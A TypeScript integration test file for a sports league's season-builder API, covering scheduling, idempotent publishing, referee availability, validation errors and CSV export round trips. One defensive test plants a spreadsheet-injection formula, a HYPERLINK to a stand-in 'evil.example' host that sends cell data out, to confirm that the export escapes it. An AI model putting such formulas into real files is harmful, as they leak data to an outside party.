// Issue 19: the season builder's routes (preview, publish with Idempotency-Key, the overlap 409),
// the referees' unavailable dates, the CSV export's round trip through the import, and every class
// of bad input.
import { parse } from 'csv-parse/sync';
import { eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { BookingIndex, gameLengthMs } from '../../../common/schedule/booking';
import type { SeasonBodyInput, SeasonOverlapErrorBody, SeasonPreviewDto, SeasonPublishDto } from '../../../common/schemas/schedule';
import { GAMES_TEXT } from '../../../common/schemas/games/texts';
import { SERVER_TEXT } from '../../../common/texts';
import { utcToWallClock } from '../../../common/time';
import { fields, games, leagues, teams, users } from '../../db/schema';
import { buildLeague, buildUser, signIn, startTestServer, uploadSchedule, type ApiClient, type BuiltUser, type TestServer } from '../../test/helpers';
import type { League } from '../leagues/store';

let server: TestServer;
beforeAll(async () => {
  server = await startTestServer();
});
afterAll(() => server.close());

type Season = { league: League; admin: ApiClient; refereeUsers: BuiltUser[]; referees: ApiClient[]; teamIds: number[]; fieldIds: number[] };

// The demo league's shape: 8 teams, 4 fields, 2 referees.
async function season(): Promise<Season> {
  const league = await buildLeague(server, { timezone: 'America/New_York' });
  const admin = await signIn(server, await buildUser(server, { role: 'admin', league }), league.slug);
  const teamRows = await server.deps.db.insert(teams).values(Array.from({ length: 8 }, (_, i) => ({ leagueId: league.id, name: `Team ${String.fromCharCode(65 + i)}` }))).returning();
  const fieldRows = await server.deps.db.insert(fields).values(['Field 1', 'Field 2', 'Field A, East', 'Dome'].map((name) => ({ leagueId: league.id, name }))).returning();
  const refereeUsers = [await buildUser(server, { role: 'referee', league }), await buildUser(server, { role: 'referee', league })];
  const referees = await Promise.all(refereeUsers.map((r) => signIn(server, r, league.slug)));
  return { league, admin, refereeUsers, referees, teamIds: teamRows.map((t) => t.id), fieldIds: fieldRows.map((f) => f.id) };
}

// Saturdays from 5 Dec 2026: 4 fields at 9:00 and 10:15
const bodyOf = (s: Season, extra: Partial<SeasonBodyInput> = {}): SeasonBodyInput => ({
  rounds: 2,
  startDate: '2026-12-05',
  slots: ['09:00', '10:15'].flatMap((time) => s.fieldIds.map((fieldId) => ({ weekday: 6, time, fieldId }))),
  assignReferees: true,
  ...extra,
});

const path = (s: Season, what: string) => `/api/leagues/${s.league.slug}/schedule/${what}`;

async function leagueGames(leagueId: number) {
  return server.deps.db.select().from(games).where(eq(games.leagueId, leagueId));
}

function noDoubleBooking(rows: (typeof games.$inferSelect)[]): void {
  const index = new BookingIndex();
  for (const g of rows.filter((r) => r.status !== 'cancelled')) {
    const booking = { id: g.id, start: g.scheduledDate.getTime(), end: g.scheduledDate.getTime() + gameLengthMs(g), field: g.field, homeTeamId: g.homeTeamId, awayTeamId: g.awayTeamId, refereeId: g.refereeId };
    expect(index.firstClash(booking)).toBeNull();
    index.add(booking);
  }
}

describe('POST /api/leagues/{slug}/schedule/preview and /publish', () => {
  it('previews a double round robin of Saturdays without writing, then publishes exactly it once per Idempotency-Key', async () => {
    const s = await season();
    const preview = await s.admin.post<SeasonPreviewDto>(path(s, 'preview'), bodyOf(s));
    expect(preview.status).toBe(200);
    expect(preview.body.games).toHaveLength(56);
    expect(preview.body.unscheduled).toEqual([]);
    expect(preview.body.overlapping).toEqual([]);
    for (const stat of preview.body.stats) expect(stat).toMatchObject({ games: 14, home: 7, away: 7, byes: 0 });
    for (const g of preview.body.games) {
      const wall = utcToWallClock(new Date(g.scheduledDate), 'America/New_York');
      expect(new Date(Date.UTC(wall.year, wall.month - 1, wall.day)).getUTCDay()).toBe(6);
      expect([9 * 60, 10 * 60 + 15]).toContain(wall.hour * 60 + wall.minute);
      expect(s.refereeUsers.map((r) => r.id)).toContain(g.refereeId);
    }
    expect(await leagueGames(s.league.id)).toHaveLength(0);

    const headers = { 'Idempotency-Key': `season-${s.league.id}` };
    const publish = await s.admin.request<SeasonPublishDto>('POST', path(s, 'publish'), bodyOf(s), { headers });
    expect(publish.status).toBe(201);
    expect(publish.body.gamesCreated).toBe(56);
    expect(publish.body.games).toEqual(preview.body.games);
    const again = await s.admin.request<SeasonPublishDto>('POST', path(s, 'publish'), bodyOf(s), { headers });
    expect(again.status).toBe(201);
    expect(again.headers.get('idempotent-replayed')).toBe('true');
    // the same key with another body: 422, nothing published
    const reused = await s.admin.request<{ message: string }>('POST', path(s, 'publish'), bodyOf(s, { rounds: 1, startDate: '2027-03-06' }), { headers });
    expect(reused.status).toBe(422);
    expect(reused.body.message).toBe(GAMES_TEXT.idempotencyKeyReused);
    const rows = await leagueGames(s.league.id);
    expect(rows).toHaveLength(56);
    noDoubleBooking(rows);
    // the games are the league's: listed with the others
    const listed = await s.admin.get<unknown[]>(`/api/leagues/${s.league.slug}/games`);
    expect(listed.body).toHaveLength(56);
  });

  it('a second publish over published weeks is 409 naming them, unless confirmOverlap; even then nothing is double-booked', async () => {
    const s = await season();
    expect((await s.admin.post(path(s, 'publish'), bodyOf(s, { rounds: 1 }))).status).toBe(201);
    const second = await s.admin.post<SeasonOverlapErrorBody>(path(s, 'publish'), bodyOf(s, { rounds: 1, startDate: '2026-12-12' }));
    expect(second.status).toBe(409);
    expect(second.body.message).toMatch(/^The league already has \d+ games in this season's weeks \(Team [A-H] vs Team [A-H], Sat, Dec 12, 2026, 9:00 AM;/);
    expect(second.body.overlapping.length).toBeGreaterThan(0);
    expect(await leagueGames(s.league.id)).toHaveLength(28);
    // the preview says the same before anyone publishes
    const preview = await s.admin.post<SeasonPreviewDto>(path(s, 'preview'), bodyOf(s, { rounds: 1, startDate: '2026-12-12' }));
    expect(preview.body.overlapping).toEqual(second.body.overlapping);
    const confirmed = await s.admin.post<SeasonPublishDto>(path(s, 'publish'), bodyOf(s, { rounds: 1, startDate: '2026-12-12', confirmOverlap: true }));
    expect(confirmed.status).toBe(201);
    expect(confirmed.body.gamesCreated).toBe(28);
    const rows = await leagueGames(s.league.id);
    expect(rows).toHaveLength(56);
    noDoubleBooking(rows);
  });

  it("referees get no game on a date they marked unavailable; the admin sees the dates beside each referee", async () => {
    const s = await season();
    const saturdays = Array.from({ length: 10 }, (_, i) => new Date(Date.UTC(2026, 11, 5 + 7 * i)).toISOString().slice(0, 10));
    const put = await s.referees[0]!.request<{ dates: string[] }>('PUT', '/api/referees/me/unavailable-dates', { dates: [saturdays[1]!, saturdays[0]!, saturdays[0]!] });
    expect(put.status).toBe(200);
    expect(put.body.dates).toEqual([saturdays[0], saturdays[1]]);
    expect((await s.referees[0]!.get('/api/referees/me/unavailable-dates')).body).toEqual({ dates: [saturdays[0], saturdays[1]] });
    expect((await s.referees[1]!.get('/api/referees/me/unavailable-dates')).body).toEqual({ dates: [] });
    const listed = await s.admin.get(`/api/leagues/${s.league.slug}/referees/unavailable-dates`);
    expect(listed.body).toEqual([
      { refereeId: s.refereeUsers[0]!.id, dates: [saturdays[0], saturdays[1]] },
      { refereeId: s.refereeUsers[1]!.id, dates: [] },
    ]);
    expect((await s.referees[0]!.get(`/api/leagues/${s.league.slug}/referees/unavailable-dates`)).status).toBe(403);

    const preview = await s.admin.post<SeasonPreviewDto>(path(s, 'preview'), bodyOf(s));
    const off = preview.body.games.filter((g) => g.refereeId === s.refereeUsers[0]!.id && [saturdays[0], saturdays[1]].includes(new Date(Date.parse(g.scheduledDate) - 5 * 3600_000).toISOString().slice(0, 10)));
    expect(off).toEqual([]);
    expect(preview.body.games.filter((g) => g.refereeId === s.refereeUsers[0]!.id).length).toBeGreaterThan(0);
    // cleared again
    expect((await s.referees[0]!.request('PUT', '/api/referees/me/unavailable-dates', { dates: [] })).body).toEqual({ dates: [] });
  });

  it('explains the pairs that found no date', async () => {
    const s = await season();
    const preview = await s.admin.post<SeasonPreviewDto>(path(s, 'preview'), bodyOf(s, { rounds: 1, endDate: '2026-12-19' }));
    expect(preview.body.games).toHaveLength(12);
    expect(preview.body.unscheduled).toHaveLength(16);
    expect(preview.body.unscheduled[0]!.reason).toMatch(/^No date fit before the season's end/);
  });
});

describe('refusals', () => {
  it('every bad input is 400 with a message naming it', async () => {
    const s = await season();
    const [otherLeagueTeam] = await server.deps.db.insert(teams).values({ leagueId: (await buildLeague(server)).id, name: 'Elsewhere' }).returning();
    const cases: [Partial<SeasonBodyInput> | Record<string, unknown>, RegExp][] = [
      [{ startDate: '2026-02-30' }, /^Start date is not a date of the calendar/],
      [{ startDate: '12/05/2026' }, /^Start date must be a date written YYYY-MM-DD/],
      [{ endDate: '2026-11-01' }, /^End date must be on or after the start date/],
      [{ endDate: '2028-01-01' }, /^A season spans at most 366 days/],
      [{ blackoutDates: ['2026-13-01'] }, /^Blackout dates\.0 /],
      [{ slots: [{ weekday: 7, time: '09:00', fieldId: s.fieldIds[0]! }] }, /^Slots\.0\.weekday must be from 0 \(Sunday\) to 6 \(Saturday\)/],
      [{ slots: [{ weekday: 6, time: '9:00', fieldId: s.fieldIds[0]! }] }, /^Slots\.0\.time must be a time written HH:MM/],
      [{ slots: [{ weekday: 6, time: '24:00', fieldId: s.fieldIds[0]! }] }, /^Slots\.0\.time must be a time written HH:MM/],
      [{ slots: [{ weekday: 6, time: '09:00', fieldId: 999999 }] }, /^Field 999999 is not a field of this league/],
      [{ slots: [] }, /^Slots needs at least one field and time/],
      [{ slots: Array.from({ length: 301 }, () => ({ weekday: 6, time: '09:00', fieldId: s.fieldIds[0]! })) }, /^Slots takes at most 300 slots/],
      [{ slots: [{ weekday: 6, time: '09:00', fieldId: s.fieldIds[0]! }, { weekday: 6, time: '09:00', fieldId: s.fieldIds[0]! }] }, /^The slot \(weekday 6, 09:00, field \d+\) is listed twice/],
      [{ teamIds: [s.teamIds[0]!, otherLeagueTeam!.id] }, new RegExp(`^Team ${otherLeagueTeam!.id} is not a team of this league`)],
      [{ teamIds: [s.teamIds[0]!] }, /^A season needs at least 2 teams/],
      [{ teamIds: [s.teamIds[0]!, s.teamIds[0]!] }, /is listed twice/],
      [{ teamIds: Array.from({ length: 65 }, (_, i) => i + 1) }, /^Team ids takes at most 64 teams/],
      [{ teamIds: [s.teamIds[0]!, s.teamIds[1]!], teamBlackouts: [{ teamId: s.teamIds[2]!, date: '2026-12-05' }] }, /^Team blackouts: team \d+ is not one of the season's teams/],
      [{ rounds: 3 }, /^Rounds must be 1 \(each pair meets once\) or 2/],
      [{ assignReferees: 'yes' }, /^Assign referees must be true or false/],
      [{ gameFormat: 'halves', totalPeriods: 4 }, /Total periods/],
      [{ surprise: 1 }, /surprise/],
    ];
    for (const [extra, message] of cases) {
      for (const what of ['preview', 'publish']) {
        const res = await s.admin.post<{ message: string }>(path(s, what), { ...bodyOf(s), ...extra });
        expect(res.status, `${what} ${JSON.stringify(extra).slice(0, 80)}: ${res.body.message}`).toBe(400);
        expect(res.body.message).toMatch(message);
      }
    }
    expect(await leagueGames(s.league.id)).toHaveLength(0);
    const dates = await s.referees[0]!.request<{ message: string }>('PUT', '/api/referees/me/unavailable-dates', { dates: ['2026-02-29'] });
    expect(dates.status).toBe(400);
    expect(dates.body.message).toMatch(/^Dates\.0 is not a date of the calendar/);
    const many = await s.referees[0]!.request<{ message: string }>('PUT', '/api/referees/me/unavailable-dates', { dates: Array.from({ length: 367 }, () => '2026-12-05') });
    expect(many.status).toBe(400);
  });

  it('referees and other leagues are refused; archived 409, suspended 403', async () => {
    const s = await season();
    expect((await s.referees[0]!.post(path(s, 'preview'), bodyOf(s))).status).toBe(403);
    const other = await season();
    const cross = await other.admin.post<{ message: string }>(path(s, 'preview'), bodyOf(s));
    expect(cross.status).toBe(403);
    expect(cross.body.message).toBe(SERVER_TEXT.assignedLeagueOnly);
    expect((await other.admin.get(`/api/leagues/${s.league.slug}/schedule.csv`)).status).toBe(403);

    await server.deps.db.update(leagues).set({ status: 'archived' }).where(eq(leagues.id, s.league.id));
    for (const what of ['preview', 'publish']) expect((await s.admin.post(path(s, what), bodyOf(s))).status).toBe(409);
    await server.deps.db.update(leagues).set({ status: 'suspended' }).where(eq(leagues.id, s.league.id));
    for (const what of ['preview', 'publish']) {
      const res = await s.admin.post<{ message: string }>(path(s, what), bodyOf(s));
      expect(res.status).toBe(403);
      expect(res.body.message).toBe(SERVER_TEXT.leagueSuspended);
    }
    expect(await leagueGames(s.league.id)).toHaveLength(0);
  });
});

// Issue 33 item 5: a date far from today answered 500 (9999-12-31: PostgreSQL's "time zone
// displacement out of range") or was published where the game API and the import refuse it (1970,
// 2101, 9000), so the export could not be imported back. Every date is in 2000-2100, or 400.
describe('dates outside 2000-2100', () => {
  const RANGE = 'must be between 2000-01-01 and 2100-12-31';

  it('are refused with 400 naming the field in every date of the builder and of the unavailable dates; nothing is written', async () => {
    const s = await season();
    const cases: [Partial<SeasonBodyInput>, string][] = [
      [{ startDate: '9999-12-31' }, 'Start date'],
      [{ startDate: '1970-01-01' }, 'Start date'],
      [{ startDate: '1999-12-31' }, 'Start date'],
      [{ startDate: '2101-01-01' }, 'Start date'],
      [{ startDate: '9000-06-03' }, 'Start date'],
      [{ startDate: '0000-01-01' }, 'Start date'],
      [{ startDate: '2100-12-04', endDate: '2101-01-01' }, 'End date'],
      [{ blackoutDates: ['2026-12-12', '9999-12-31'] }, 'Blackout dates.1'],
      [{ teamBlackouts: [{ teamId: s.teamIds[0]!, date: '1999-12-31' }] }, 'Team blackouts.0.date'],
    ];
    for (const [extra, field] of cases) {
      for (const what of ['preview', 'publish']) {
        const res = await s.admin.post<{ message: string }>(path(s, what), { ...bodyOf(s), ...extra });
        expect(res.status, `${what} ${JSON.stringify(extra)}: ${res.body.message}`).toBe(400);
        expect(res.body.message).toBe(`${field} ${RANGE}`);
      }
    }
    expect(await leagueGames(s.league.id)).toHaveLength(0);
    for (const date of ['9999-12-31', '1970-01-01', '2101-01-01']) {
      const res = await s.referees[0]!.request<{ message: string }>('PUT', '/api/referees/me/unavailable-dates', { dates: ['2026-12-05', date] });
      expect(res.status, date).toBe(400);
      expect(res.body.message).toBe(`Dates.1 ${RANGE}`);
    }
    expect((await s.referees[0]!.get('/api/referees/me/unavailable-dates')).body).toEqual({ dates: [] });
  });

  it('the first and last days are taken; a season with no end date stops at 2100-12-31, so its export imports back', async () => {
    const s = await season();
    const first = await s.admin.post<SeasonPreviewDto>(path(s, 'preview'), bodyOf(s, { startDate: '2000-01-01', endDate: '2000-01-01' }));
    expect(first.status).toBe(200);
    expect(first.body.games).toHaveLength(4);
    const dates = await s.referees[0]!.request('PUT', '/api/referees/me/unavailable-dates', { dates: ['2100-12-31', '2000-01-01'] });
    expect(dates.body).toEqual({ dates: ['2000-01-01', '2100-12-31'] });

    // Saturdays of December 2100: the 4th, 11th, 18th and 25th; 8 teams play 4 games a Saturday
    const last = await s.admin.post<SeasonPublishDto>(path(s, 'publish'), bodyOf(s, { startDate: '2100-12-04' }));
    expect(last.status).toBe(201);
    expect(last.body.gamesCreated).toBe(16);
    const wallDates = (await leagueGames(s.league.id)).map((g) => utcToWallClock(g.scheduledDate, s.league.timezone)).map((t) => `${t.year}-${String(t.month).padStart(2, '0')}-${String(t.day).padStart(2, '0')}`);
    expect([...new Set(wallDates)].sort()).toEqual(['2100-12-04', '2100-12-11', '2100-12-18', '2100-12-25']);

    const res = await fetch(`${server.url}/api/leagues/${s.league.slug}/schedule.csv`, { headers: { cookie: s.admin.cookie ?? '' } });
    const empty = await buildLeague(server, { timezone: 'America/New_York' });
    const emptyAdmin = await signIn(server, await buildUser(server, { role: 'admin', league: empty }), empty.slug);
    const imported = await importInto(emptyAdmin, empty.slug, await res.text());
    expect(imported.status).toBe(200);
    expect(imported.body).toMatchObject({ gamesCreated: 16, errors: [] });
  });
});

const importInto = (client: ApiClient, slug: string, csv: string) => uploadSchedule(server, client, csv, { leagueSlug: slug, fileName: 'season.csv' });

describe('GET /api/leagues/{slug}/schedule.csv', () => {
  const names = async (leagueId: number) => {
    const teamNames = new Map((await server.deps.db.select().from(teams).where(eq(teams.leagueId, leagueId))).map((t) => [t.id, t.name]));
    return (await leagueGames(leagueId))
      .map((g) => `${teamNames.get(g.homeTeamId!)} v ${teamNames.get(g.awayTeamId!)} ${g.scheduledDate.toISOString()} ${g.field} ${g.status} ${g.homeScore}-${g.awayScore}`)
      .sort();
  };

  it("writes the season in the import's columns: exported, then imported into an empty league, every game comes back", async () => {
    const s = await season();
    expect((await s.admin.post(path(s, 'publish'), bodyOf(s))).status).toBe(201);
    const [first] = await leagueGames(s.league.id);
    expect((await s.admin.request('PATCH', `/api/games/${first!.id}/state`, { status: 'completed', homeScore: 14, awayScore: 7 })).status).toBe(200);
    const res = await fetch(`${server.url}/api/leagues/${s.league.slug}/schedule.csv`, { headers: { cookie: s.admin.cookie ?? '' } });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    const csv = await res.text();
    expect(csv.split('\r\n')[0]).toBe('Match ID,Division,Round,Home Team,Away Team,Date,Start Time,End Time,Field,Facility Address,Home Coach,Away Coach,Referee,Status,Home Score,Away Score');
    expect(csv).toContain('"Field A, East"');

    const empty = await buildLeague(server, { timezone: 'America/New_York' });
    const emptyAdmin = await signIn(server, await buildUser(server, { role: 'admin', league: empty }), empty.slug);
    const imported = await importInto(emptyAdmin, empty.slug, csv);
    expect(imported.status).toBe(200);
    expect(imported.body).toMatchObject({ teamsCreated: 8, fieldsCreated: 4, gamesCreated: 56, errors: [] });

    expect(await names(empty.id)).toEqual(await names(s.league.id));
  });

  it("writes a cell a spreadsheet would run as a formula with a leading ' (OWASP), and the import takes it off again", async () => {
    const s = await season();
    const formula = '=HYPERLINK("http://evil.example/?d="&A2,"Click")';
    const renamed = [formula, '+1 Tigers', '-Lions', '@Bears'];
    for (const [i, name] of renamed.entries()) await server.deps.db.update(teams).set({ name }).where(eq(teams.id, s.teamIds[i]!));
    await server.deps.db.update(fields).set({ name: '@SUM(A1:A9)' }).where(eq(fields.id, s.fieldIds[3]!));
    for (const referee of s.refereeUsers) await server.deps.db.update(users).set({ firstName: formula, lastName: '' }).where(eq(users.id, referee.id));
    expect((await s.admin.post(path(s, 'publish'), bodyOf(s))).status).toBe(201);
    const res = await fetch(`${server.url}/api/leagues/${s.league.slug}/schedule.csv`, { headers: { cookie: s.admin.cookie ?? '' } });
    const csv = await res.text();
    const cells = parse(csv) as string[][];
    const written = new Set(cells.slice(1).flatMap((row) => [row[3], row[4], row[8], row[12]]));
    for (const name of [...renamed, '@SUM(A1:A9)']) {
      expect(written).toContain(`'${name}`);
      expect(written).not.toContain(name);
    }
    expect(cells.slice(1).every((row) => row[12] === `'${formula}`)).toBe(true);

    const empty = await buildLeague(server, { timezone: 'America/New_York' });
    const emptyAdmin = await signIn(server, await buildUser(server, { role: 'admin', league: empty }), empty.slug);
    const imported = await importInto(emptyAdmin, empty.slug, csv);
    expect(imported.body).toMatchObject({ teamsCreated: 8, fieldsCreated: 4, gamesCreated: 56, errors: [] });
    expect(await names(empty.id)).toEqual(await names(s.league.id));
  });
});

describe('a division\'s season (issue 34)', () => {
  it('builds U10 and then U12 on the same fields and Saturdays with no field, team or referee double-booked', async () => {
    const s = await season();
    const division = async (name: string) => (await s.admin.post<{ id: number }>(`/api/leagues/${s.league.slug}/divisions`, { name })).body.id;
    const [u10, u12] = [await division('U10'), await division('U12')];
    const teamsOf = async (divisionId: number, prefix: string) =>
      Promise.all(Array.from({ length: 6 }, async (_, i) => (await s.admin.post<{ id: number }>('/api/teams', { name: `${prefix} ${i + 1}`, divisionId })).body.id));
    const [u10Teams, u12Teams] = [await teamsOf(u10, 'Cubs'), await teamsOf(u12, 'Bears')];
    const twoFields = (extra: Partial<SeasonBodyInput>) => bodyOf(s, { rounds: 1, slots: ['09:00', '10:15'].flatMap((time) => s.fieldIds.slice(0, 2).map((fieldId) => ({ weekday: 6, time, fieldId }))), ...extra });

    const first = await s.admin.post<SeasonPublishDto>(path(s, 'publish'), twoFields({ divisionId: u10 }));
    expect(first.status).toBe(201);
    expect(first.body.gamesCreated).toBe(15);
    for (const g of first.body.games) expect([g.homeTeamId, g.awayTeamId].every((id) => u10Teams.includes(id))).toBe(true);
    // U10's games on those Saturdays are another division's season, not this one published twice
    const preview = await s.admin.post<{ overlapping: unknown[] }>(path(s, 'preview'), twoFields({ divisionId: u12 }));
    expect(preview.body.overlapping).toEqual([]);
    const second = await s.admin.post<SeasonPublishDto>(path(s, 'publish'), twoFields({ divisionId: u12 }));
    expect(second.status).toBe(201);
    expect(second.body.gamesCreated).toBe(15);
    for (const g of second.body.games) expect([g.homeTeamId, g.awayTeamId].every((id) => u12Teams.includes(id))).toBe(true);

    const rows = await leagueGames(s.league.id);
    expect(rows).toHaveLength(30);
    noDoubleBooking(rows);
    expect(new Set(rows.map((g) => g.field))).toEqual(new Set(['Field 1', 'Field 2']));
    const listed = await s.admin.get<{ divisionId: number | null }[]>(`/api/leagues/${s.league.slug}/games?divisionId=${u12}`);
    expect(listed.body).toHaveLength(15);
    // U10 again over its own weeks is still a season published twice
    expect((await s.admin.post(path(s, 'publish'), twoFields({ divisionId: u10 }))).status).toBe(409);
  });

  it("refuses another division's teams and another league's division, writing nothing", async () => {
    const s = await season();
    const u10 = (await s.admin.post<{ id: number }>(`/api/leagues/${s.league.slug}/divisions`, { name: 'U10' })).body.id;
    const cubs = (await s.admin.post<{ id: number }>('/api/teams', { name: 'Cubs', divisionId: u10 })).body.id;
    const wrongTeam = await s.admin.post(path(s, 'preview'), bodyOf(s, { divisionId: u10, teamIds: [cubs, s.teamIds[0]!] }));
    expect(wrongTeam.status).toBe(400);
    expect(wrongTeam.body.message).toBe(`Team ${s.teamIds[0]} is not a team of the division U10`);
    const other = await season();
    const theirs = (await other.admin.post<{ id: number }>(`/api/leagues/${other.league.slug}/divisions`, { name: 'Theirs' })).body.id;
    const foreign = await s.admin.post(path(s, 'publish'), bodyOf(s, { divisionId: theirs }));
    expect(foreign.status).toBe(400);
    expect(foreign.body.message).toBe(`Division ${theirs} is not a division of this league`);
    // one team in the division: no season
    expect((await s.admin.post(path(s, 'preview'), bodyOf(s, { divisionId: u10 }))).body.message).toBe('A season needs at least 2 teams');
    expect(await leagueGames(s.league.id)).toHaveLength(0);
  });
});
